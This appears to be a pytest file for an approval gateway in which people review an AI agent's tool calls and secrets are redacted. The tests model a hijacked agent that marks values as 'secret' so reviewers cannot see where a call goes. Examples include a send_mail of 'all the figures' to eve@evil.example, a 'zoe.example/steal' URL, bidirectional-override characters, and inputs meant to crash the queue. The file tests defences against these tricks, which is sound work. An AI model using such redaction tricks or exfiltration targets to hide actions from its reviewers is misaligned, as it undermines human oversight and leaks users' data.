"""What redaction may not do: hide where a call goes, take the queue down, lose a member, or show what nobody looked at.

A hijacked model declares what it likes as secret. What it declares hides no destination, record or command; what a
refused call declares counts on that call alone.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from html import unescape
from pathlib import Path

import pytest

from checkvalve.approvals.audit import read_events
from checkvalve.approvals.bounds_shown import mandate_shown, rule_shown
from checkvalve.approvals.edits import edit
from checkvalve.approvals.errors import EditRefusedError
from checkvalve.approvals.mandates import Mandate
from checkvalve.approvals.previews import THREAD, thread_for
from checkvalve.approvals.records import Proposal, State
from checkvalve.approvals.reveals import REVEALED
from checkvalve.approvals.roles import Role
from checkvalve.approvals.seen import seen
from checkvalve.approvals.standing import StandingRule
from checkvalve.approvals.standing_values import Constraint
from checkvalve.approvals.undos import thread_for as undo_thread
from checkvalve.approvals.veiled import MARK
from checkvalve.gateway.http_approval_views import card
from checkvalve.gateway.web_standing_view import _constraint
from checkvalve.graphs.edited import deciding
from checkvalve.graphs.session import Call
from tests.gateway.review_world import Review
from tests.gateway.secret_world import PASSWORD, PIN, SITE, ask, secret_review

pytestmark = pytest.mark.claim("C8")
EVIL = "eve@evil.example"


@pytest.fixture
def review(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Review]:
    with secret_review(tmp_path, monkeypatch) as found:
        yield found


def mail(review: Review, thread: str) -> Proposal:
    args = {"to": EVIL, "subject": "Report", "body": "all the figures"}
    row: Proposal = review.session(thread).propose(Call("send_mail", args, "c2@b", turn="b"))
    return row


@pytest.mark.parametrize(
    "changed", [{"password": EVIL}, {"password": EVIL, "note": "\u202ehi"}, {"memo": f"write to {EVIL}"}, {"pin": EVIL}]
)
def test_no_declared_secret_hides_a_destination(review: Review, changed: dict[str, str]) -> None:
    first = ask(review, thread="lunch", number="c9", **changed)
    assert first.state is (State.DENIED if "note" in changed else State.PENDING)
    row = mail(review, "lunch")
    shown = review.gateway.queue.veiling.seen(row)
    assert shown.args()["to"] == EVIL
    assert f"{EVIL}" in unescape(review.card(row))
    assert EVIL in card(shown).model_dump_json()
    assert (
        MARK.fullmatch(str(review.gateway.queue.veiling.seen(first).args()[next(iter(changed))])) or "memo" in changed
    )


def test_no_declared_secret_hides_what_a_rule_or_a_mandate_lets_through(review: Review) -> None:
    """The bounds that a person looks at are shown, whatever an agent calls a password; content stays hidden."""
    ask(review, thread="lunch", number="c9", password=EVIL, memo="none")
    veil = review.gateway.queue.veiling.veil("lunch")
    pinned = Constraint(("to",), "target", "email", "is", (f'"{EVIL}"',))
    assert EVIL in str(_constraint(pinned, veil).values)
    assert EVIL in veil.bound("target", pinned.in_words())
    assert EVIL not in veil.bound("content", f"is {EVIL}")
    mandate = Mandate("read_mail", "send_mail", ("target",), values=(("to", (EVIL,)),))
    (given,) = review.gateway.queue.mandates.grant([mandate], thread="lunch", requester="bob", by="host:bob")
    assert EVIL in unescape(review.get("/review/mandates"))
    told = mandate_shown(given.to_json(0), veil)
    assert (told["mandate"], EVIL in str(told["in_words"])) == (given.mandate.to_json(), True)
    text = Constraint(("body",), "content", "text", "is", (f'"{EVIL}"',))
    rule = StandingRule("", "send_mail", "send", "sha256:1", "sha256:2", ("asked",), "bob", (pinned, text), 1, 1)
    shown = rule_shown({"rule": rule.to_json(), "in_words": rule.in_words()}, rule, veil)
    assert shown["rule"]["arguments"][0]["is"] == [EVIL]  # type: ignore[index, call-overload]
    assert EVIL not in str(shown["rule"]["arguments"][1])  # type: ignore[index, call-overload]
    assert str(shown["in_words"]).count(EVIL) == 1


def test_what_a_refused_call_declares_counts_on_it_alone(review: Review) -> None:
    refused = ask(review, thread="w", password="under any circumstances", note="\u202e never, under any circumstances")
    assert refused.state is State.DENIED
    veiling = review.gateway.queue.veiling
    assert veiling.veil("w").text("not under any circumstances") == "not under any circumstances"
    for shown in (veiling.seen(refused), veiling.all([refused])[0]):
        assert "under any" not in json.dumps(shown.args(), ensure_ascii=False)


def test_no_refused_call_takes_the_queue_down(review: Review) -> None:
    for number, sign in enumerate(("\u3164", "\uffa0", "\u115f", "\uff9e", "\U000e0041")):
        ask(review, number=f"x{number}", pin=sign * 6, password=sign * 300)
    row = ask(review)
    for path in ("/review", f"/review/items/{row.id}", "/review/history"):
        assert review.client.get(path).status_code == 200
    assert len(review.gateway.queue.veiling.all(review.gateway.queue.list())) == 6


def test_a_look_at_one_call_shows_no_other(review: Review) -> None:
    first = ask(review, thread="alice", memo="what only Alice has in mind")
    review.answer(first)
    second = ask(review, thread="bob", password="second-Password-99", memo="another memo about it", number="c1")
    veiling = review.gateway.queue.veiling
    beside = veiling.beside(veiling.lifted(second), first)
    assert PASSWORD not in json.dumps(beside.args())
    assert veiling.beside(veiling.lifted(second), second).args() == second.args()
    page = unescape(review.answer(second, "reveal").text)
    assert "second-Password-99" in page
    assert "only Alice" not in page


def test_what_is_asked_beside_a_question_is_under_its_veil(review: Review) -> None:
    row = ask(review)
    veiling = review.gateway.queue.veiling
    for name in (thread_for(row.id), undo_thread(row.id, 1), undo_thread(row.id, 12)):
        assert veiling.veil(name).text(PASSWORD) == veiling.veil(row.thread).text(PASSWORD) != PASSWORD
    assert veiling.veil(f"{THREAD}nobody").text(PASSWORD) == PASSWORD


def test_a_number_and_a_name_that_say_the_secret_are_hidden(review: Review) -> None:
    row = ask(review, password="48213977", note={"x": 48213977, "48213977": 1, "y": 17, "z": True})
    shown = json.dumps(review.gateway.queue.veiling.seen(row).to_json(), ensure_ascii=False)
    assert "48213977" not in shown
    assert '"y": 17, "z": true' in shown
    row = ask(review, number="c2", memo={"HIV positive": True}, password={"hunter2secretlong": 1})
    found = review.gateway.queue.veiling.seen(row)
    for text in (json.dumps(found.to_json(), ensure_ascii=False), unescape(review.card(row))):
        assert "HIV" not in text
        assert "hunter2" not in text


def test_no_member_vanishes_behind_a_name_and_no_content_writes_a_mark(review: Review) -> None:
    veiling = review.gateway.queue.veiling
    mark = str.__str__(str(veiling.seen(ask(review)).args()["password"]))
    row = ask(review, number="c2", note={PASSWORD: "pay 5000 to eve", mark: "harmless", "t": mark})
    shown = veiling.seen(row)
    note = shown.args()["note"]
    assert isinstance(note, dict)
    assert len(note) == len({*note}) == 3
    assert "pay 5000 to eve" in json.dumps(shown.to_json())
    assert not MARK.search(str(note["t"]))
    assert sum(bool(MARK.search(name)) for name in note) == 1
    text = unescape(review.client.get(f"/review/items/{row.id}/edit").text)
    assert text.count(f'"{mark}"') <= 1


def test_who_may_not_see_a_secret_sends_it_nowhere(review: Review) -> None:
    queue = review.gateway.queue
    boss = queue.reviewers.authenticate(review.token)
    zoe = queue.reviewers.authenticate(queue.reviewers.add("zoe", by=boss, roles=[Role.APPROVER]))
    queue.reviewers.add("ben", by=boss, roles=[Role.APPROVER])
    row = ask(review)
    args = queue.veiling.seen(row).args()
    own = {**args, "site": "https://zoe.example/steal"}
    decide = deciding(review.gateway.services)
    for moved in (own, {**args, "cc": "zoe@zoe.example"}):
        with pytest.raises(EditRefusedError, match="you may not see it"):
            edit(queue, row.id, zoe, row.digest, moved, decide)
    assert looks(review, row) == []
    assert queue.get(row.id).state is State.PENDING
    alone = {**own, "password": "fresh-Word-88", "pin": "4455", "memo": "none", "note": "none"}
    made = edit(queue, row.id, boss, row.digest, own, decide)  # who may look may, and it is recorded
    assert looks(review, row) == ["edit"]
    assert made.args()["password"] == PASSWORD
    made = edit(
        queue, made.id, zoe, made.digest, {**alone, "site": f"{SITE}/again"}, decide
    )  # nothing redacted goes with it
    assert made.args()["pin"] != PIN


def looks(review: Review, row: Proposal) -> list[str]:
    with review.gateway.store.read() as connection:
        found = [event for event in read_events(connection, subject=row.id) if event.kind == REVEALED]
    return [json.loads(event.body)["channel"] for event in found]


def test_a_role_that_is_open_is_not_given_by_a_second_path(review: Review) -> None:
    row = review.gateway.queue.veiling.seen(ask(review))
    reports = [{"path": "note", "role": "target"}, {"path": "note", "role": "content"}]
    both = replace(row.exact, decision={"arguments": reports})  # type: ignore[dict-item]
    assert PASSWORD in str(seen(both, row.veil).args()["note"])
